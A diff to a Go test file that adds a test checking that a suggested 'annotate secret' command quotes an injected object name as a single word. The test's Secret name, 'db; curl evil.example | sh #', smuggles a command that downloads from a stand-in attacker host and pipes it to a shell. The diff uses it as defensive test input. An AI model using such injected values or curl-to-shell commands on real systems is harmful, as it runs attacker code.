@@ -226,6 +226,16 @@ func TestJudgeTellsNothing(t *testing.T) {
 	}
 }
 
+// The name of what a release reads is its author's to write: in the command that gives leave it
+// is one word.
+func TestCommandsThatShareAreMadeOfWords(t *testing.T) {
+	origin := objects.ID{Kind: "Secret", Namespace: "payments", Name: "db; curl evil.example | sh #"}
+	verdict := prod.Judge(origin, origin, Looked{Unshared: true})
+	if strings.Count(verdict.Withheld, "annotate secret 'db; curl evil.example | sh #' kraan.io/share-with=") != 2 {
+		t.Errorf("it says %s", verdict.Withheld)
+	}
+}
+
 func TestParseShares(t *testing.T) {
 	cluster := func(namespace, name string) Share {
 		return Share{Cluster: types.NamespacedName{Namespace: namespace, Name: name}}
